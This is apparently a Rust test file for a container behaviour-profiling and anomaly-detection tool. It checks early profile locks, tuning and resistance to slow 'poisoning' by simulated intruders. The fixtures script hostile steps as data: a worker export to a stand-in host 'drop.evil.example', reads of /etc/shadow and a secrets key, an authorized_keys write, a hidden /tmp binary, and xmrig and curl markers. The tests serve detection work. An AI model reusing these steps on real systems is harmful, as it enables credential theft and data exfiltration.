//! Locks that come too early, and who tries to profit from healing: days of event time, through the real writer, rules and
//! stream. What is and is not caught is said in README.md, "What poisoning gets through".

mod common;

use std::path::{Path, PathBuf};

use common::{BEGIN, SECOND, Script};
use datasets::Recording;
use replay::args::vectors::LazyModel;
use replay::config::{self, Config};
use replay::deviation::Tree;
use replay::judge::Judges;
use replay::learn;
use replay::pipeline::fold::Folded;
use replay::pipeline::image::{ImageState, Phase};
use replay::pipeline::{self, Stage, Start, World};
use replay::profile::Profile;

const HOUR: i64 = 3600;
const DAY: i64 = 24 * HOUR;

/// A window of a day: the unit of a service's life, here with few enough events for a test.
const WINDOW: &str = "convergence.window=86400";
const TUNE: &str = "convergence.after=tune";

fn config(sets: &[&str]) -> Config {
    let sets: Vec<String> = std::iter::once(&WINDOW).chain(sets).map(ToString::to_string).collect();
    config::load(None, &sets).unwrap()
}

/// Unix time of a second of the test's clock, ns.
const fn at(second: i64) -> i64 {
    BEGIN + second * SECOND
}

/// The service's ordinary days: pages and look-ups every two hours, a job every night.
fn days(script: &mut Script, days: std::ops::Range<i64>) {
    for hour in (days.start * 24..days.end * 24).step_by(2) {
        let ts = at(hour * HOUR);
        script.open(ts, 2, "/srv/web/index.html", 0, 4);
        script.connect(ts + 1, 2, "10.89.0.2", 8000);
        script.open(ts + 2, 1, &format!("/srv/app/data/items/{}.json", hour % 12), 0, 4);
        script.connect(ts + 3, 1, "10.89.0.4", 6379);
        if hour % 24 == 2 {
            let id = hour.to_string();
            let argv = ["/srv/app/bin/worker", "--job", "report", "--id", &id, "--format", "csv"];
            let worker = script.exec(ts + 4, 1, "/srv/app/bin/worker", &argv);
            script.open(ts + 5, worker, "/srv/app/data/items", 0o200_000, 3);
        }
    }
}

/// The job that comes once a week: programs, files and a service that no other day has.
fn weekly(script: &mut Script, day: i64) {
    let ts = at(day * DAY + 4 * HOUR);
    let week = (day / 7 + 30).to_string();
    let job =
        script.exec(ts, 1, "/srv/app/bin/weekly", &["weekly", "--week", &week, "--out", "/srv/app/reports/week.csv"]);
    script.connect(ts + 1, job, "10.89.0.4", 5432);
    script.open(ts + 2, job, "/srv/app/reports/week.csv", 0o1101, 4);
    let gzip = script.exec(ts + 3, job, "/usr/bin/gzip", &["gzip", "-f", "/srv/app/reports/week.csv"]);
    script.open(ts + 4, gzip, "/srv/app/reports/week.csv", 0, 3);
}

/// An intruder whom no rule hits: looks around, takes a key, knocks at the next container.
fn quiet_attack(script: &mut Script, day: i64) {
    let ts = at(day * DAY + 5 * HOUR);
    let id = script.exec(ts, 1, "/usr/bin/id", &["id"]);
    script.open(ts + 1, id, "/srv/app/data/secrets/key", 0, 3);
    script.connect(ts + 2, id, "10.89.0.3", 22);
}

fn write(script: Script, dir: &Path) -> Recording {
    Recording::open(script.write(dir)).unwrap()
}

/// The app's image after a recording, with the rules that ship, and its deviations.
fn replayed(recording: &Recording, baseline: Option<&Profile>, config: &Config) -> (ImageState, Vec<Folded>) {
    let world = World::load(recording, config).unwrap();
    let judges = Judges::open(config).unwrap();
    let rules = judges.of(&world);
    let model = LazyModel::new(&config.model, 1);
    let start = baseline.map_or(Start::Learn, Start::Baseline);
    let stage = Stage { world: &world, start, config, vectors: &model, rules: &rules };
    let streamed = pipeline::stream(recording, &stage, |_| {}).unwrap();
    let mut app = streamed.images.into_iter().find(|state| state.image.contains("app")).expect("the app's image");
    let folded = app.take_folded();
    (app, folded)
}

fn saved(state: &ImageState) -> Profile {
    let mut profile = Profile::default();
    profile.images.insert(state.image.clone(), state.entry());
    profile
}

/// What the trees know, as text.
fn trees(state: &ImageState) -> String {
    serde_json::to_string(&state.profile).unwrap()
}

fn knows(state: &ImageState, what: &[&str]) -> Vec<bool> {
    let trees = trees(state);
    what.iter().map(|word| trees.contains(word)).collect()
}

fn locked_on_day(state: &ImageState, tree: Tree) -> i64 {
    let Phase::Locked(locked) = &state.phases[&tree] else { panic!("{tree:?} still learns") };
    (locked.at.expect("locked by the rule") - BEGIN) / SECOND / DAY
}

const WEEKLY: [&str; 4] = ["/srv/app/bin/weekly", "/usr/bin/gzip", "/week.csv", "5432"];
const QUIET: [&str; 3] = ["/usr/bin/id", "/secrets", "image localhost/shop/web:1"];
const LOUD: [&str; 3] = ["xmrig", "/usr/bin/curl", "203.0.113"];

/// Four weeks: locked on the second day, the job on days 6, 13, 20 and 27, and an attack on the day of its first run.
fn month() -> Script {
    let mut script = Script::new();
    days(&mut script, 0..28);
    (6..28).step_by(7).for_each(|day| weekly(&mut script, day));
    quiet_attack(&mut script, 6);
    script.attack(6 * DAY + 6 * HOUR);
    script
}

/// kubescape/node-agent issue 912: a profile that was taken for complete lacks what the workload needs, and nothing mends it.
#[test]
fn a_lock_before_the_weekly_job_is_final_unless_it_tunes() {
    let tmp = tempfile::tempdir().unwrap();
    let recording = write(month(), &tmp.path().join("rec"));
    let (app, folded) = replayed(&recording, None, &config(&[]));
    for tree in Tree::ALL {
        assert!(locked_on_day(&app, tree) < 3, "locked before the job");
    }
    assert_eq!(knows(&app, &WEEKLY), [false; 4]);
    let job = folded.iter().find(|folded| folded.deviation.text.contains("/srv/app/bin/weekly")).expect("it deviates");
    assert_eq!(job.deviation.count, 4, "every week");
    let test = |state: &ImageState| state.lock_test(Tree::Process, &config(&[])).expect("it saw something");
    assert!(!test(&app).holds, "and the lock is known to have come too early: {:?}", test(&app));
    let mut script = Script::new();
    days(&mut script, 0..28);
    let (quiet, _) = replayed(&write(script, &tmp.path().join("quiet")), None, &config(&[]));
    assert!(test(&quiet).holds, "{:?}", test(&quiet));
}

#[test]
fn it_heals_with_the_third_run_and_takes_no_attack_of_the_first_day_in() {
    let tmp = tempfile::tempdir().unwrap();
    let recording = write(month(), &tmp.path().join("rec"));
    let config = config(&[TUNE]);
    let (app, folded) = replayed(&recording, None, &config);
    assert!(Tree::ALL.iter().all(|tree| locked_on_day(&app, *tree) < 3));
    assert_eq!(knows(&app, &WEEKLY), [true; 4], "{:?}", app.entry().probation);
    assert_eq!(knows(&app, &QUIET), [false; 3]);
    assert_eq!(knows(&app, &LOUD), [false; 3]);
    let times = |text: &str| folded.iter().find(|f| f.deviation.text.contains(text)).map(|f| f.deviation.count);
    assert_eq!(
        times("/srv/app/bin/weekly --week"),
        Some(3),
        "it deviates until it is taken in, and not in the fourth week"
    );
    assert_eq!(times("/usr/bin/id"), Some(1), "the attack was told all the same");
    let tuned = app.tuned();
    assert!(
        tuned.iter().all(|tuned| tuned.occasions.len() == 3 && (tuned.at - BEGIN) / SECOND / DAY == 20),
        "{tuned:?}"
    );
    let waiting = app.entry().probation;
    assert!(waiting.iter().all(|candidate| candidate.occasions.len() == 1), "{waiting:?}");
    assert!(app.counts.grave > 0, "the key, the miner");
}

/// The same over recordings of a day each: what is on probation is kept in the profile.
#[test]
fn occasions_add_up_over_recordings() {
    let tmp = tempfile::tempdir().unwrap();
    let config = config(&[TUNE]);
    let mut script = Script::new();
    days(&mut script, 0..5);
    let (learned, _) = replayed(&write(script, &tmp.path().join("first")), None, &config);
    let mut profile = saved(&learned);
    let mut taken = Vec::new();
    for day in [6, 13, 20, 27] {
        let mut script = Script::new();
        days(&mut script, day..day + 1);
        weekly(&mut script, day);
        let path = tmp.path().join(format!("day{day}"));
        let (state, folded) = replayed(&write(script, &path), Some(&profile), &config);
        taken.push((state.tuned().len(), folded.len()));
        // Through the file, as a user would.
        let file = tmp.path().join("profile.json");
        std::fs::write(&file, saved(&state).to_json()).unwrap();
        profile = Profile::load(&file).unwrap();
    }
    let [first, second, third, fourth] = taken[..] else { unreachable!() };
    assert_eq!((first.0, second.0), (0, 0));
    assert!(third.0 > 4 && third.1 > 4);
    assert_eq!(fourth, (third.0, 0), "the fourth week is known: nothing deviates");
}

/// An intruder who comes back every week looks like a job: what is harmless by itself is taken in, what is grave never is.
#[test]
fn an_attack_that_recurs_as_a_job_does_gets_its_harmless_part_in() {
    let tmp = tempfile::tempdir().unwrap();
    let mut script = Script::new();
    days(&mut script, 0..28);
    (6..28).step_by(7).for_each(|day| quiet_attack(&mut script, day));
    script.attack(6 * DAY);
    script.attack(13 * DAY);
    script.attack(20 * DAY);
    let (app, folded) = replayed(&write(script, &tmp.path().join("rec")), None, &config(&[TUNE]));
    let [id, secrets, lateral] = knows(&app, &QUIET)[..] else { unreachable!() };
    assert!(id && lateral, "this gets through");
    assert!(!secrets, "the key never does");
    assert_eq!(knows(&app, &LOUD), [false; 3], "nor what rules hit, and what started it");
    assert!(folded.iter().any(|f| f.deviation.text.contains("/usr/bin/id") && f.deviation.count >= 3), "it was told");
}

/// The poisoner's steps, from harmless to grave.
fn step(script: &mut Script, step: i64, now: i64) {
    match step {
        0 => {
            script.exec(now, 1, "/usr/bin/id", &["id"]);
        }
        1 => script.open(now, 1, "/srv/app/settings.ini", 0, 3),
        2 => script.connect(now, 1, "10.89.0.3", 8080),
        3 => {
            let argv = ["/srv/app/bin/worker", "--job", "export", "--id", "7", "--to", "https://drop.evil.example/in"];
            script.exec(now, 1, "/srv/app/bin/worker", &argv);
        }
        4 => script.open(now, 1, "/etc/shadow", 0, 3),
        5 => script.connect(now, 1, "203.0.113.66", 443),
        6 => {
            script.exec(now, 1, "/tmp/.cache/agent", &["agent"]);
        }
        _ => {}
    }
}

/// One step a day, each kept up from then on.
fn poisoned(from: i64, until: i64) -> Script {
    let mut script = Script::new();
    days(&mut script, 0..until);
    for day in from..until {
        (0..=(day - from)).for_each(|n| step(&mut script, n, at(day * DAY + 7 * HOUR) + n * SECOND));
    }
    script
}

const STEPS: [&str; 7] = ["/usr/bin/id", "/settings.ini", "8080", "drop.evil", "/shadow", "203.0.113", "/.cache/agent"];
const HARMLESS: [bool; 7] = [true, true, true, false, false, false, false];

#[test]
fn a_slow_poisoner_gets_the_harmless_steps_in_and_no_grave_one() {
    let tmp = tempfile::tempdir().unwrap();
    let recording = write(poisoned(4, 18), &tmp.path().join("rec"));
    let (app, folded) = replayed(&recording, None, &config(&[TUNE]));
    assert_eq!(knows(&app, &STEPS), HARMLESS);
    // Each was told on its first day, whatever came of it.
    let mut first: Vec<(i64, &str)> =
        folded.iter().map(|f| ((f.deviation.ts - BEGIN) / SECOND / DAY, &*f.deviation.text)).collect();
    first.sort_unstable();
    let first_days: Vec<i64> = first.iter().map(|(day, _)| *day).collect();
    assert_eq!(first_days, [4, 5, 6, 7, 8, 9, 10], "{first:?}");

    let (app, _) = replayed(&recording, None, &config(&[]));
    assert_eq!(knows(&app, &STEPS), [false; 7], "a locked profile takes nothing in");
}

#[test]
fn who_poisons_while_the_image_learns_is_learned_but_for_what_rules_hit() {
    let tmp = tempfile::tempdir().unwrap();
    let mut script = Script::new();
    days(&mut script, 0..4);
    (0..7).for_each(|n| step(&mut script, n, at(n * 3 * HOUR + HOUR)));
    let (app, _) = replayed(&write(script, &tmp.path().join("quick")), None, &config(&[TUNE]));
    // A rule hits the reading of /etc/shadow; the process that did it teaches nothing more, nor does what it starts.
    assert_eq!(knows(&app, &STEPS), [true, true, true, true, false, false, false], "this gets through");
    // Each step is a new pattern, and puts the lock off by a window.
    let Phase::Locked(locked) = &app.phases[&Tree::Network] else { panic!("four days are enough") };
    assert!(locked.at.unwrap() >= at(7 * HOUR + DAY), "the connection inside was the last new thing");

    // One step a day is slower than the window: each tree locks before its next.
    let recording = write(poisoned(0, 9), &tmp.path().join("slow"));
    let (app, _) = replayed(&recording, None, &config(&[]));
    assert_eq!(knows(&app, &STEPS), [true, false, false, false, false, false, false]);
}

#[test]
fn an_attacker_of_the_first_second() {
    let tmp = tempfile::tempdir().unwrap();
    let mut script = Script::new();
    days(&mut script, 0..3);
    // A program of the intruder's reads first and is hit by a rule later; another is never hit.
    let implant = script.exec(at(0) + 10, 1, "/srv/app/bin/helper", &["helper"]);
    script.open(at(0) + 11, implant, "/srv/app/data/loot", 0, 3);
    script.exec(at(HOUR), implant, "/tmp/.x/stage", &["stage"]);
    script.open(at(HOUR) + 1, implant, "/root/.ssh/authorized_keys", 0o1101, 3);
    quiet_attack(&mut script, 0);
    script.attack(0);
    let recording = write(script, &tmp.path().join("rec"));
    let config = config(&[]);

    // As a stream, only what came before the first hit is learned of a program that a rule hits.
    let (app, folded) = replayed(&recording, None, &config);
    assert_eq!(knows(&app, &LOUD), [true, true, true], "the shell that fetched it was hit by nothing before");
    assert_eq!(knows(&app, &["stage", "authorized_keys", "/loot"]), [false, false, true]);
    assert!(folded.iter().any(|f| f.deviation.text.contains("/tmp/.x/stage")));

    // Learning as a step of its own knows beforehand.
    let learned = learn::learn(vec![("rec".to_owned(), recording)], &config, 1).unwrap();
    let entry = &learned.profile.images["localhost/shop/app:1"];
    let trees = serde_json::to_string(&entry.trees).unwrap();
    for never in ["stage", "authorized_keys", "/loot", "/srv/app/bin/helper"] {
        assert!(!trees.contains(never), "{never} was learned");
    }
    for quiet in QUIET {
        assert!(trees.contains(quiet), "{quiet}: whom no rule hits is learned");
    }
    let image = learned.report.images.iter().find(|image| image.image.contains("app")).unwrap();
    assert!(image.withheld >= 4 && image.hits.iter().any(|hit| hit.text.contains("/tmp/.x/stage")), "{:?}", image.hits);
}

/// Three replicas; what one alone does is neither taken in nor unseen.
#[test]
fn one_replica_of_three_is_named_and_does_not_speak_for_the_others() {
    let tmp = tempfile::tempdir().unwrap();
    let mut script = Script::new();
    let ids = ["d".repeat(64), "e".repeat(64)];
    script.replica(3, &ids[0], "app-2", "10.89.0.12");
    script.replica(4, &ids[1], "app-3", "10.89.0.13");
    days(&mut script, 0..12);
    for hour in (0..12 * 24).step_by(2) {
        for main in [3, 4] {
            script.open(at(hour * HOUR) + main as i64, main, &format!("/srv/app/data/items/{}.json", hour % 12), 0, 4);
            script.connect(at(hour * HOUR) + 10 + main as i64, main, "10.89.0.4", 6379);
        }
        if hour % 24 == 2 {
            for main in [3, 4] {
                let argv = ["/srv/app/bin/worker", "--job", "report", "--id", "9", "--format", "csv"];
                let worker = script.exec(at(hour * HOUR) + 20 + main as i64, main, "/srv/app/bin/worker", &argv);
                script.open(at(hour * HOUR) + 30 + main as i64, worker, "/srv/app/data/items", 0o200_000, 3);
            }
        }
    }
    for day in 5..12 {
        let ts = at(day * DAY + 3 * HOUR);
        let tool = script.exec(ts, 3, "/usr/bin/find", &["find", "/srv/app", "-name", "x"]);
        for (i, name) in ["one", "two", "three", "four", "five", "six"].iter().enumerate() {
            script.open(ts + 1 + i as i64, 3, &format!("/srv/app/{name}"), 0, 3);
        }
        script.connect(ts + 10, tool, "10.89.0.3", 9000);
        // All three replicas come to do this.
        for main in [1, 3, 4] {
            script.open(ts + 20 + main as i64, main, "/srv/app/new-release", 0, 3);
        }
    }
    let recording = write(script, &tmp.path().join("rec"));
    let config = config(&[TUNE]);
    let (app, _) = replayed(&recording, None, &config);
    assert_eq!(knows(&app, &["/new-release", "/usr/bin/find", "/three"]), [true, false, false]);
    let siblings = app.siblings(&config, &str::to_owned).expect("three replicas");
    let outliers: Vec<_> = siblings.outliers().collect();
    assert_eq!(outliers.iter().map(|replica| &*replica.container).collect::<Vec<_>>(), [&*ids[0]]);
    assert_eq!(outliers[0].own, 8, "{:#?}", outliers[0].branches);

    let (recording, out) = (tmp.path().join("rec"), tmp.path().join("out"));
    let args = ["--set", WINDOW, "--set", TUNE, "--set", "engines.weights.semantics=0"];
    let output = common::replay(&[&[recording.to_str().unwrap(), "-o", out.to_str().unwrap()], &args[..]].concat());
    assert!(output.status.success(), "{}", common::stderr(&output));
    assert!(common::stdout(&output).contains("replica app-2 stands out: 8 branches"), "{}", common::stdout(&output));
    let report = std::fs::read_to_string(out.join("report.html")).unwrap();
    assert!(report.contains(">Replicas</h2>") && report.contains(r#"app-2 <b class="sev high">outlier</b>"#));
    let run: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(out.join("run.json")).unwrap()).unwrap();
    let named: Vec<_> = run["images"][0]["siblings"]["replicas"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|replica| replica["outlier"] == true)
        .map(|replica| replica["name"].as_str().unwrap())
        .collect();
    assert_eq!(named, ["app-2"]);
}

/// The binary says it all: in the summary, run.json, the report, and `profile show`.
#[test]
fn it_is_told() {
    let tmp = tempfile::tempdir().unwrap();
    let recording = tmp.path().join("rec");
    month().write(&recording);
    let out: PathBuf = tmp.path().join("out");
    let (recording, directory) = (recording.to_str().unwrap(), out.to_str().unwrap());
    let sets = ["--set", WINDOW, "--set", TUNE, "--set", "engines.weights.semantics=0"];
    let output = common::replay(&[&[recording, "-o", directory], &sets[..]].concat());
    assert!(output.status.success(), "{}", common::stderr(&output));
    let summary = common::stdout(&output);
    assert!(summary.contains("taken in ") && summary.contains("process tree did not hold: "), "{summary}");
    let run: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(out.join("run.json")).unwrap()).unwrap();
    let app = run["images"].as_array().unwrap().iter().find(|image| image["image"] == "localhost/shop/app:1").unwrap();
    assert!(app["tuned"].as_u64().unwrap() > 4 && app["grave"].as_u64().unwrap() > 0, "{app:#}");
    assert!(std::fs::read_to_string(out.join("report.html")).unwrap().contains("behaviours taken in since the lock"));
    assert!(std::fs::read_to_string(out.join("report.html")).unwrap().contains("<b>did not hold</b>"));
    let shown = common::stdout(&common::replay(&["profile", "show", directory]));
    assert!(shown.contains("taken in since: process") && shown.contains("on probation: "), "{shown}");
    let json = common::stdout(&common::replay(&["profile", "show", directory, "--format", "json", "--image", "app"]));
    let shown: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(shown["images"].as_object().unwrap().len(), 1);
}
